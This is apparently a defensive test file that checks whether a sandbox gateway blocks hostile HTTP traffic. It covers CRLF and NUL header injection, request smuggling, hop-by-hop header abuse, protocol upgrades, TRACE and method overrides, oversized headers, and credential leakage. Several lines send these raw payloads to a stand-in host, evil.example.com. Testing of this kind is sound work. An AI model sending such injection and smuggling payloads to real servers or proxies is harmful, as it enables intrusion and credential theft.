// Attempts with headers for another reader: the next hop, another protocol, the log, the upstream's credentials.
import { expect } from 'vitest'
import type { Attempt } from '../../attempt.ts'
import { told, wireScript } from '../../inside-python.ts'
import { expectNoneServed, expectRecorded, expectRefused, expectSoundRun } from './refused-requests.ts'

const PRELUDE = String.raw`
def request(more='', line='GET /x HTTP/1.1', body=''):
    return through((f'{line}\r\nHost: {GIT}\r\n{more}Connection: close\r\n\r\n{body}').encode('latin-1'))
`

export const HEADERS: readonly Attempt[] = [
  {
    id: 'header-injection',
    group: 'network',
    tries: 'inject headers and requests through CR, LF and NUL, raw and escaped, in path, query, host and values',
    wall: 'strict HTTP parser; what is recorded and passed on is what was parsed',
    invariant: 12,
    script: wireScript(String.raw`${PRELUDE}
for label, line in {
    'LF in the path': 'GET /x\nX-Injected: 1 HTTP/1.1', 'CRLF in the path': 'GET /x\r\nX-Injected: 1\r\nY: HTTP/1.1', 'NUL': 'GET /x\0y HTTP/1.1', 'escape': 'GET /x\x1b[31m HTTP/1.1', 'tab': 'GET /x\ty HTTP/1.1',
}.items():
    attempt(label, lambda: request(line=line))
attempt('escaped CRLF', lambda: request(line='GET /x%0d%0aX-Injected:%201%0d%0a%0d%0aGET%20/smuggled HTTP/1.1'))
attempt('escaped in the query', lambda: request(line='GET /x?a=%0d%0aX-Injected:1%00%e2%80%ae HTTP/1.1'))
attempt('LF in a value', lambda: request('X: a\nX-Injected: 1\r\n'))
attempt('host', lambda: raw('GET http://evil.example.com%0d%0aX-Injected:1/ HTTP/1.1\r\nHost: evil.example.com\r\n\r\n'))`),
    verify(outcome) {
      for (const { label, statuses } of told(outcome))
        expect([label, [[400], [404]]]).toEqual([label, expect.arrayContaining([statuses])])
      expectRecorded(outcome, told(outcome).length)
      for (const { body } of outcome.of('net.requested')) expect(body.url).not.toMatch(/[\0-\x1f\x7f]/)
    },
  },
  {
    id: 'header-hop-by-hop',
    group: 'network',
    tries:
      'make the gateway drop Host, Content-Length or Git-Protocol by naming them in Connection; send Proxy-* headers',
    wall: 'hop-by-hop headers end at the gateway; Host and Content-Length never count as such',
    invariant: 2,
    script: wireScript(String.raw`${PRELUDE}
def naming(names, more=''):
    return through(f'POST /x HTTP/1.1\r\nHost: {GIT}\r\nContent-Length: 0\r\nConnection: close, {names}\r\n{more}\r\n')
for names in ['host', 'content-length', 'content-type', 'x-forwarded-for, host', 'Host , Content-Length', 'connection', 'keep-alive, te, trailer']:
    attempt(names, lambda: naming(names))
attempt('Proxy-Connection', lambda: naming('proxy-connection', 'Proxy-Connection: keep-alive\r\nKeep-Alive: timeout=1000\r\nTE: trailers\r\n'))
attempt('Proxy-Authorization', lambda: naming('x', 'Proxy-Authorization: Basic c2VjcmV0\r\nProxy-Authenticate: Basic\r\n'))`),
    verify(outcome) {
      for (const { label, statuses } of told(outcome))
        expect([label, [[403], [404]]]).toEqual([label, expect.arrayContaining([statuses])])
      expectRecorded(outcome, 9)
      expect(JSON.stringify(outcome.of('net.requested'))).not.toContain('c2VjcmV0')
    },
  },
  {
    id: 'header-upgrades',
    group: 'network',
    tries:
      'switch from HTTP/1.1: WebSocket, h2c with and without settings, TLS and CONNECT-UDP upgrades, HTTP/2 preface',
    wall: 'the gateway upgrades no connection',
    invariant: 2,
    script: wireScript(String.raw`${PRELUDE}
def upgrade(to, more=''):
    return through(f'GET /x HTTP/1.1\r\nHost: {GIT}\r\nConnection: Upgrade{", HTTP2-Settings" if more else ""}\r\nUpgrade: {to}\r\n{more}\r\n')
for to in ['websocket', 'h2c', 'h2', 'TLS/1.2', 'connect-udp', 'connect-ip', 'WebSocket, h2c', '', 'x']:
    attempt('to ' + to, lambda: upgrade(to))
attempt('h2c settings', lambda: upgrade('h2c', 'HTTP2-Settings: AAMAAABk\r\n'))
attempt('settings alone', lambda: request('HTTP2-Settings: AAMAAABk\r\n'))
attempt('in the clear', lambda: raw('GET http://evil.example.com/ HTTP/1.1\r\nHost: evil.example.com\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n'))
attempt('preface', lambda: through('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'))
attempt('preface and frames', lambda: through(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0'))`),
    verify: (outcome) => expectRefused(outcome),
  },
  {
    id: 'header-methods',
    group: 'network',
    tries: 'use TRACE, TRACK, DEBUG, WebDAV, invented and lower-case methods, and method override headers',
    wall: 'TRACE is not passed on; the git service only takes GET and POST, the parser only known methods',
    invariant: 2,
    script: wireScript(String.raw`${PRELUDE}
for method in ['TRACE', 'TRACK', 'DEBUG', 'PROPFIND', 'MKCOL', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'PURGE', 'get', 'INVENTED', 'GET/', '\x00']:
    attempt(method, lambda: request(line=f'{method} /x HTTP/1.1', more='X-HTTP-Method-Override: DELETE\r\nMax-Forwards: 0\r\nCookie: secret=1\r\n'))
attempt('to the proxy', lambda: raw('TRACE http://evil.example.com/ HTTP/1.1\r\nHost: evil.example.com\r\nCookie: secret=1\r\n\r\n'))`),
    verify(outcome) {
      for (const { label, statuses, text } of told(outcome)) {
        expect([label, [[400], [403], [404], [501]]]).toEqual([label, expect.arrayContaining([statuses])])
        expect(text).not.toContain('secret=1')
      }
      expectRecorded(outcome, 15)
    },
  },
  {
    id: 'header-huge',
    group: 'network',
    tries: 'send one huge header, ten thousand headers, a huge URL, a huge method, an endless line',
    wall: 'bounds on header bytes, count and URL',
    invariant: 2,
    script: wireScript(String.raw`${PRELUDE}
attempt('one header', lambda: request('X: ' + 'y' * 200000 + '\r\n'))
attempt('header name', lambda: request('y' * 200000 + ': x\r\n'))
attempt('many headers', lambda: request(''.join(f'X-{at}: y\r\n' for at in range(10000))))
attempt('more than counted', lambda: request(''.join(f'X-{at}: y\r\n' for at in range(120))))
attempt('many cookies', lambda: request('Cookie: a=b\r\n' * 150))
attempt('URL', lambda: request(line='GET /' + 'y' * 12000 + ' HTTP/1.1'))
attempt('longer URL', lambda: request(line='GET /' + 'y' * 100000 + ' HTTP/1.1'))
attempt('authority', lambda: raw('CONNECT ' + 'a.' * 20000 + 'com:443 HTTP/1.1\r\n\r\n'))
attempt('no end', lambda: raw(b'G' * 1000000))`),
    verify(outcome) {
      expectNoneServed(outcome)
      expectSoundRun(outcome)
      for (const { body } of outcome.of('net.requested')) expect(body.url.length).toBeLessThan(16_384)
    },
  },
  {
    id: 'header-credentials',
    group: 'network',
    tries: 'send all kinds of credentials, so that a server or the record gets them',
    wall: 'the gateway drops credentials from inside and does not record them',
    invariant: 1,
    reach: ['anywhere'],
    script: wireScript(String.raw`
SECRET = 'c2VjcmV0LXRva2Vu'
KINDS = f'Authorization: Bearer {SECRET}\r\nCookie: s={SECRET}\r\nCookie2: {SECRET}\r\nProxy-Authorization: Basic {SECRET}\r\n'
attempt('dead host', lambda: raw(f'GET http://unresolvable.invalid/ HTTP/1.1\r\nHost: unresolvable.invalid\r\n{KINDS}Connection: close\r\n\r\n'))
attempt('userinfo', lambda: raw(f'GET http://user:{SECRET}@unresolvable.invalid/ HTTP/1.1\r\nHost: unresolvable.invalid\r\nConnection: close\r\n\r\n'))
attempt('git', lambda: through(f'GET /x HTTP/1.1\r\nHost: {GIT}\r\n{KINDS}Connection: close\r\n\r\n'))`),
    verify(outcome) {
      for (const { statuses } of told(outcome)) expect([[400], [404], [502]]).toContainEqual(statuses)
      expect(JSON.stringify(outcome.of('net.requested'))).not.toContain('c2VjcmV0LXRva2Vu')
      expect(outcome.of('net.requested').map(({ body }) => body.note)).toContainEqual(
        expect.stringContaining('dropped the header authorization'),
      )
      expect(outcome.of('credential.used')).toEqual([])
    },
  },
]
